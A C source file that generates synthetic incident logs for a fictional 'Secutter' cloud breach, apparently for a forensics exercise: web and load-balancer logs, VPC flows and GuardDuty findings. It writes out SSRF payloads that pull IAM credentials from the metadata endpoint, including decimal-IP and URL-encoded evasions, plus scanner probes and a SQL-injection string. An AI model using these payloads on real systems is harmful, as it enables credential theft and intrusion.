/* SPDX-License-Identifier: MIT */
/*
 * What lies beside CloudTrail of the Secutter incident: the web server's log,
 * in the time of Japan, the load balancer's, the flows of the server's network
 * and three findings of GuardDuty. The requests that took the credentials, which
 * no record of CloudTrail tells of, are in the first two.
 */
#include "gen/secutter.h"
#include "gen/sets.h"

#include <stdio.h>
#include <stdlib.h>

#include "base/attr.h"
#include "base/gz.h"
#include "base/mem.h"
#include "base/sort.h"
#include "base/timefmt.h"
#include "gen/files.h"
#include "gen/rng.h"

#define DAY      "2026-10-03"
#define WEB_IP   "10.0.30.91" /* inside the VPC */
#define ENI      "eni-0b6d1f2a93c47e580"
#define DATABASE "10.0.40.12"
#define POOL     "203.0.113.140"
#define SCANNER  "203.0.113.181"
#define BROWSER                                                         \
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 " \
	"(KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
#define FETCH "/profile.php?image="

enum { MS = 1000, JST = 9 * 3600, VISITS = 260, PROBES = 40 };

struct request {
	const char *time; /* UTC */
	const char *method, *uri;
	unsigned status, bytes;
};

/* Carol signs up, and finds that her picture is fetched by the server. */
static const struct request attack[] = {
	{ "06:02:11", "GET", "/", 200, 5120 },
	{ "06:02:34", "GET", "/signup.php", 200, 2318 },
	{ "06:03:05", "POST", "/signup.php", 302, 0 },
	{ "06:03:06", "GET", "/login.php?user=carol", 200, 1894 },
	{ "06:03:31", "POST", "/login.php", 302, 0 },
	{ "06:03:32", "GET", "/profile.php", 200, 4021 },
	{ "06:04:47", "GET", FETCH "http://" SECUTTER_ATTACKER "/cat.png", 200,
	  18233 },
	{ "06:05:20", "GET", FETCH "file:///etc/passwd", 400, 312 },
	{ "06:05:41", "GET", FETCH "http://169.254.169.254/latest/meta-data/",
	  200, 324 },
	{ "06:06:02", "GET",
	  FETCH "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F"
		"security-credentials%2F",
	  200, 16 },
	{ "06:06:11", "GET",
	  FETCH "http%3A%2F%2F2852039166%2Flatest%2Fmeta-data%2Fiam%2F"
		"security-credentials%2Fread-s3-ec2-role",
	  200, 1310 },
};

static const struct {
	const char *uri;
	unsigned bytes;
} pages[] = {
	{ "/", 5120 },
	{ "/timeline.php", 9377 },
	{ "/login.php", 1894 },
	{ "/style.css", 3302 },
	{ "/app.js", 14021 },
	{ "/images/logo.png", 8804 },
	{ "/profile.php", 4021 },
	{ "/post.php?id=1107", 2711 },
};

static const char *const probes[] = {
	"/.env",          "/wp-login.php",
	"/phpinfo.php",   "/.git/config",
	"/admin/",        "/backup.sql",
	"/server-status", "/index.php?id=1%27%20OR%201=1--",
};

/* Lines, which are put in order of time at the end. */
struct log {
	struct line {
		int64_t time; /* ms */
		struct strbuf text;
	} * line;
	size_t n, cap;
};

static struct strbuf *add_line(struct log *l, int64_t time)
{
	l->line = mem_grow(l->line, &l->cap, l->n + 1, sizeof(*l->line));
	l->line[l->n].time = time;
	strbuf_init(&l->line[l->n].text);
	return &l->line[l->n++].text;
}

static int64_t at(const char *clock)
{
	char text[32];

	snprintf(text, sizeof(text), DAY "T%sZ", clock);
	return time_parse(str_of(text), NULL);
}

/* The whole log in order, and nothing of it left. */
static void end_log(struct log *l, struct strbuf *out)
{
	uint32_t *order = mem_alloc((l->n + 1) * sizeof(*order));
	int64_t *key = mem_alloc((l->n + 1) * sizeof(*key));

	for (size_t i = 0; i < l->n; i++)
		key[i] = l->line[i].time;
	sort_by_key(order, key, (uint32_t)l->n);
	for (size_t i = 0; i < l->n; i++) {
		strbuf_add(out, strbuf_str(&l->line[order[i]].text));
		strbuf_addc(out, '\n');
	}
	for (size_t i = 0; i < l->n; i++)
		strbuf_release(&l->line[i].text);
	free(l->line);
	free(order);
	free(key);
	*l = (struct log){ .n = 0 };
}

/* Requests ----------------------------------------------------------------- */

struct story {
	struct rng rng;
	struct log web, balancer, flows;
};

/* "03/Oct/2026:15:06:11 +0900" */
static void add_japanese_time(struct strbuf *out, int64_t t)
{
	static const struct time_zone zone = { ZONE_FIXED, JST, "+09:00" };
	struct time_parts p = time_split(t, &zone);

	strbuf_addf(out, "%02d/Oct/%04d:%02d:%02d:%02d +0900", p.day, p.year,
		    p.hour, p.minute, p.second);
}

static void add_iso(struct strbuf *out, int64_t t, unsigned micro)
{
	static const struct time_zone zone = TIME_ZONE_UTC;
	struct time_parts p = time_split(t, &zone);

	strbuf_addf(out, "%04d-%02d-%02dT%02d:%02d:%02d.%06uZ", p.year, p.month,
		    p.day, p.hour, p.minute, p.second, micro % 1000000);
}

static const char *balancer_of(struct story *s)
{
	return rng_chance(&s->rng, 50) ? "10.0.10.21" : "10.0.20.17";
}

/* One request of a client's, as the balancer and the server log it. */
static void add_request(struct story *s, int64_t t, const char *client,
			const char *agent, const struct request *r)
{
	unsigned port = 32768 + rng_below(&s->rng, 28000);
	unsigned micro = rng_below(&s->rng, 900000);
	struct strbuf *web = add_line(&s->web, t);
	struct strbuf *elb = add_line(&s->balancer, t);
	char trace[25] = { 0 };

	strbuf_addf(web, "%s - - [", balancer_of(s));
	add_japanese_time(web, t);
	strbuf_addf(web, "] \"%s %s HTTP/1.1\" %u %u \"-\" \"%s\" \"%s\"",
		    r->method, r->uri, r->status, r->bytes, agent, client);
	rng_hex(&s->rng, trace, sizeof(trace) - 1);
	strbuf_adds(elb, "https ");
	add_iso(elb, t, micro);
	strbuf_addf(
		elb,
		" app/secutter-prd-ALB/50dc6c495c0c9188 %s:%u " WEB_IP
		":80 0.001 0.0%02u 0.000 %u %u %u %u \"%s "
		"https://secutter.example:443%s HTTP/1.1\" \"%s\" "
		"ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 "
		"arn:aws:elasticloadbalancing:ap-northeast-1:" SECUTTER_ACCOUNT
		":targetgroup/web/73e2d6bc24d8a067 "
		"\"Root=1-%08x-%s\" \"secutter.example\" "
		"\"arn:aws:acm:ap-northeast-1:" SECUTTER_ACCOUNT
		":certificate/5c1d\" 0 ",
		client, port, 2 + rng_below(&s->rng, 80), r->status, r->status,
		300 + rng_below(&s->rng, 400), r->bytes + 390, r->method,
		r->uri, agent, (unsigned)(t / MS), trace);
	add_iso(elb, t, micro ? micro - 1 : 0);
	strbuf_addf(elb,
		    " \"forward\" \"-\" \"-\" \"" WEB_IP ":80\" \"%u\" \"-\" "
		    "\"-\"",
		    r->status);
}

static void add_visits(struct story *s)
{
	int64_t from = at(SECUTTER_FROM), to = at(SECUTTER_TO);

	for (int i = 0; i < VISITS; i++) {
		uint32_t page = rng_below(&s->rng, ARRAY_SIZE(pages));
		struct request r = { NULL, "GET", pages[page].uri, 200,
				     pages[page].bytes };
		int64_t t = rng_between(&s->rng, from / MS, to / MS - 1) * MS;
		char client[32];

		snprintf(client, sizeof(client), "198.51.100.%u",
			 100 + rng_below(&s->rng, 60));
		add_request(s, t, client, BROWSER, &r);
	}
	/* What asks every five minutes whether the server lives. */
	for (int64_t t = from; t < to; t += 300 * MS) {
		struct strbuf *web = add_line(&s->web, t);

		strbuf_addf(web, "%s - - [", balancer_of(s));
		add_japanese_time(web, t);
		strbuf_adds(web, "] \"GET /health HTTP/1.1\" 200 2 \"-\" "
				 "\"ELB-HealthChecker/2.0\" \"-\"");
	}
}

/* Somebody else's scan, which finds nothing. */
static void add_scan(struct story *s)
{
	int64_t t = at("05:12:40");

	for (int i = 0; i < PROBES; i++) {
		struct request r = {
			NULL, "GET",
			probes[rng_below(&s->rng, ARRAY_SIZE(probes))], 404, 162
		};

		add_request(s, t, SCANNER,
			    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) "
			    "(Test:000003)",
			    &r);
		t += rng_between(&s->rng, 0, 3) * MS;
	}
}

/* Flows --------------------------------------------------------------------- */

static void add_flow(struct story *s, int64_t t, const char *from,
		     unsigned from_port, const char *to, unsigned to_port,
		     uint64_t bytes, const char *action)
{
	struct strbuf *out = add_line(&s->flows, t);

	strbuf_addf(out,
		    "2 " SECUTTER_ACCOUNT " " ENI " %s %s %u %u 6 %llu %llu "
		    "%lld %lld %s OK",
		    from, to, from_port, to_port,
		    (unsigned long long)(bytes / 1100 + 3),
		    (unsigned long long)bytes, (long long)(t / MS),
		    (long long)(t / MS + 57), action);
}

static unsigned any_port(struct story *s)
{
	return 32768 + rng_below(&s->rng, 28000);
}

/* What an ordinary ten minutes look like. */
static void add_ordinary_flows(struct story *s)
{
	for (int64_t t = at(SECUTTER_FROM); t < at(SECUTTER_TO);
	     t += 600 * MS) {
		unsigned port = any_port(s), store = any_port(s);

		add_flow(s, t + 4 * MS, "10.0.10.21", port, WEB_IP, 80,
			 3000 + rng_below(&s->rng, 9000), "ACCEPT");
		add_flow(s, t + 4 * MS, WEB_IP, 80, "10.0.10.21", port,
			 40000 + rng_below(&s->rng, 90000), "ACCEPT");
		add_flow(s, t + 9 * MS, WEB_IP, any_port(s), DATABASE, 3306,
			 5000 + rng_below(&s->rng, 9000), "ACCEPT");
		add_flow(s, t + 31 * MS, WEB_IP, store, "192.0.2.77", 443,
			 8000 + rng_below(&s->rng, 30000), "ACCEPT");
		add_flow(s, t + 31 * MS, "192.0.2.77", 443, WEB_IP, store,
			 90000 + rng_below(&s->rng, 90000), "ACCEPT");
		add_flow(s, t + 200 * MS, SCANNER, any_port(s), WEB_IP,
			 rng_chance(&s->rng, 50) ? 22 : 3389, 40, "REJECT");
	}
}

/* Step 8: the shell calls home, and the database leaves through it. */
static void add_theft_flows(struct story *s)
{
	unsigned shell = any_port(s);

	for (int64_t t = at("06:23:11"); t < at("06:31:00"); t += 60 * MS) {
		add_flow(s, t, WEB_IP, shell, SECUTTER_ATTACKER, 4444,
			 900 + rng_below(&s->rng, 5000), "ACCEPT");
		add_flow(s, t, SECUTTER_ATTACKER, 4444, WEB_IP, shell,
			 700 + rng_below(&s->rng, 3000), "ACCEPT");
	}
	add_flow(s, at("06:24:41"), WEB_IP, any_port(s), DATABASE, 3306, 41822,
		 "ACCEPT");
	add_flow(s, at("06:25:48"), WEB_IP, any_port(s), SECUTTER_ATTACKER, 22,
		 148203117, "ACCEPT");
}

/* Findings ------------------------------------------------------------------ */

/* Credentials of the web server, from outside of AWS. */
static void add_theft_finding(struct strbuf *out, const struct session *stolen)
{
	static const char id[] = "c1d8e7f60b5a4c3d92e1f0a9b8c7d6e5";
	struct strbuf principal;

	strbuf_init(&principal);
	session_principal_id(&principal, stolen);
	strbuf_addf(
		out,
		"{\"schemaVersion\":\"2.0\",\"accountId\":\"" SECUTTER_ACCOUNT
		"\",\"region\":\"ap-northeast-1\",\"partition\":\"aws\",\"id\":"
		"\"%s\",\"arn\":\"arn:aws:guardduty:ap-northeast-1:" SECUTTER_ACCOUNT
		":detector/7b20c4d1e5f64a83b9d2a1c0e3f4b5a6/finding/%s\","
		"\"type\":\"UnauthorizedAccess:IAMUser/"
		"InstanceCredentialExfiltration.OutsideAWS\",\"resource\":{"
		"\"resourceType\":\"AccessKey\",\"accessKeyDetails\":{"
		"\"accessKeyId\":\"%s\",\"principalId\":\"%s\","
		"\"userType\":\"AssumedRole\",\"userName\":"
		"\"read-s3-ec2-role\"}},\"service\":{\"serviceName\":"
		"\"guardduty\",\"detectorId\":"
		"\"7b20c4d1e5f64a83b9d2a1c0e3f4b5a6\",\"action\":{"
		"\"actionType\":\"AWS_API_CALL\",\"awsApiCallAction\":{"
		"\"api\":\"GetCallerIdentity\",\"serviceName\":"
		"\"sts.amazonaws.com\",\"callerType\":\"Remote IP\","
		"\"remoteIpDetails\":{\"ipAddressV4\":\"" SECUTTER_ATTACKER
		"\"}}},\"resourceRole\":\"TARGET\",\"additionalInfo\":{},"
		"\"eventFirstSeen\":\"" DAY
		"T06:06:40Z\",\"eventLastSeen\":\"" DAY
		"T06:11:05Z\",\"archived\":false,\"count\":19},"
		"\"severity\":8,\"createdAt\":\"" DAY "T06:21:07.511Z\","
		"\"updatedAt\":\"" DAY "T06:21:07.511Z\",\"title\":"
		"\"Credentials of instance " SECUTTER_WEB
		" are used from an address outside of AWS.\",\"description\":"
		"\"Credentials that were made for an instance are used from " SECUTTER_ATTACKER
		".\"}\n",
		id, id, stolen->key, principal.p);
	strbuf_release(&principal);
}

static void add_finding(struct strbuf *out, const char *id, const char *type,
			const char *what, const char *first, const char *action)
{
	strbuf_addf(
		out,
		"{\"schemaVersion\":\"2.0\",\"accountId\":\"" SECUTTER_ACCOUNT
		"\",\"region\":\"us-west-2\",\"partition\":\"aws\",\"id\":"
		"\"%s\",\"arn\":\"arn:aws:guardduty:us-west-2:" SECUTTER_ACCOUNT
		":detector/3ac1a7b2c0d44e5f9a60b1c2d3e4f506/finding/%s\","
		"\"type\":\"%s\",\"resource\":{\"resourceType\":\"Instance\","
		"\"instanceDetails\":{\"instanceId\":\"" SECUTTER_MINER
		"\",\"instanceType\":\"g4dn.2xlarge\",\"launchTime\":\"" DAY
		"T06:27:10Z\",\"platform\":null,\"iamInstanceProfile\":{"
		"\"arn\":\"arn:aws:iam::" SECUTTER_ACCOUNT
		":instance-profile/read-s3-ec2-role\"},\"networkInterfaces\":"
		"[{\"privateIpAddress\":\"172.31.22.105\",\"publicIp\":"
		"\"192.0.2.201\"}],\"imageId\":\"ami-0d2017e886fc2c0ab\"}},"
		"\"service\":{\"serviceName\":\"guardduty\",\"detectorId\":"
		"\"3ac1a7b2c0d44e5f9a60b1c2d3e4f506\",\"action\":%s,"
		"\"resourceRole\":\"TARGET\",\"additionalInfo\":{},"
		"\"eventFirstSeen\":\"" DAY "T%sZ\",\"eventLastSeen\":\"" DAY
		"T08:21:40Z\",\"archived\":false,\"count\":11},\"severity\":8,"
		"\"createdAt\":\"" DAY "T06:51:12.304Z\",\"updatedAt\":\"" DAY
		"T08:26:02.118Z\",\"title\":\"%s\",\"description\":\"%s\"}\n",
		id, id, type, action, first, what, what);
}

static void add_findings(struct strbuf *out)
{
	add_finding(out, "4ac5c1d2a7b84f7e96d0e2b3c4a5d6f7",
		    "CryptoCurrency:EC2/BitcoinTool.B!DNS",
		    "Instance " SECUTTER_MINER
		    " asks for a name of cryptocurrencies.",
		    "06:35:52",
		    "{\"actionType\":\"DNS_REQUEST\",\"dnsRequestAction\":{"
		    "\"domain\":\"pool.mining.example\",\"protocol\":\"UDP\","
		    "\"blocked\":false}}");
	add_finding(out, "9e2f7b10c3d54a6b8f01a2b3c4d5e6f8",
		    "CryptoCurrency:EC2/BitcoinTool.B",
		    "Instance " SECUTTER_MINER
		    " talks to an address of cryptocurrencies.",
		    "06:35:53",
		    "{\"actionType\":\"NETWORK_CONNECTION\","
		    "\"networkConnectionAction\":{\"connectionDirection\":"
		    "\"OUTBOUND\",\"remoteIpDetails\":{\"ipAddressV4\":\"" POOL
		    "\"},\"remotePortDetails\":{\"port\":3333},\"protocol\":"
		    "\"TCP\",\"blocked\":false}}");
}

/* Files --------------------------------------------------------------------- */

/* Below AWSLogs/ACCOUNT, in the folder of a service's day. */
static enum err_code write_delivery(const char *folder, const char *place,
				    const char *name, struct str text,
				    struct err *err)
{
	struct strbuf path;
	enum err_code rc;

	strbuf_init(&path);
	strbuf_addf(&path,
		    "%s/secutter/AWSLogs/" SECUTTER_ACCOUNT "/%s/2026/10/03",
		    folder, place);
	rc = files_make_folder(path.p, err);
	strbuf_addf(&path, "/%s", name);
	if (rc == ERR_OK)
		rc = gz_write_file(path.p, text, err);
	strbuf_release(&path);
	return rc;
}

static enum err_code write_web_log(const char *folder, struct str text,
				   struct err *err)
{
	struct strbuf path;
	enum err_code rc;

	strbuf_init(&path);
	strbuf_addf(&path, "%s/secutter/nginx", folder);
	rc = files_make_folder(path.p, err);
	strbuf_adds(&path, "/access.log");
	if (rc == ERR_OK)
		rc = files_write(path.p, text, err);
	strbuf_release(&path);
	return rc;
}

enum err_code secutter_logs(const char *folder, const struct session *stolen,
			    struct err *err)
{
	struct story s = { .web = { .n = 0 } };
	struct strbuf text;
	enum err_code rc;

	rng_seed(&s.rng, "secutter-logs");
	strbuf_init(&text);
	add_visits(&s);
	add_scan(&s);
	for (size_t i = 0; i < ARRAY_SIZE(attack); i++)
		add_request(&s, at(attack[i].time), SECUTTER_ATTACKER, BROWSER,
			    &attack[i]);
	add_ordinary_flows(&s);
	add_theft_flows(&s);
	end_log(&s.web, &text);
	rc = write_web_log(folder, strbuf_str(&text), err);
	strbuf_clear(&text);
	end_log(&s.balancer, &text);
	if (rc == ERR_OK)
		rc = write_delivery(
			folder, "elasticloadbalancing/ap-northeast-1",
			SECUTTER_ACCOUNT
			"_elasticloadbalancing_ap-northeast-1_app."
			"secutter-prd-ALB.50dc6c495c0c9188_20261003T0830Z_"
			"192.0.2.40_5x3kq7vt.log.gz",
			strbuf_str(&text), err);
	strbuf_clear(&text);
	strbuf_adds(&text, "version account-id interface-id srcaddr dstaddr "
			   "srcport dstport protocol packets bytes start end "
			   "action log-status\n");
	end_log(&s.flows, &text);
	if (rc == ERR_OK)
		rc = write_delivery(folder, "vpcflowlogs/ap-northeast-1",
				    SECUTTER_ACCOUNT
				    "_vpcflowlogs_ap-northeast-1_"
				    "fl-0a1b2c3d4e5f60718_20261003T0830Z_"
				    "8d2f61c0.log.gz",
				    strbuf_str(&text), err);
	strbuf_clear(&text);
	add_findings(&text);
	if (rc == ERR_OK)
		rc = write_delivery(folder, "GuardDuty/us-west-2",
				    "1f0c9a52-7be3-4d21-9c55-6a8b0e4f7d13."
				    "jsonl.gz",
				    strbuf_str(&text), err);
	strbuf_clear(&text);
	add_theft_finding(&text, stolen);
	if (rc == ERR_OK)
		rc = write_delivery(folder, "GuardDuty/ap-northeast-1",
				    "5b7d2e10-94ac-4f3e-8d17-c2e6a0f91b38."
				    "jsonl.gz",
				    strbuf_str(&text), err);
	strbuf_release(&text);
	return rc;
}
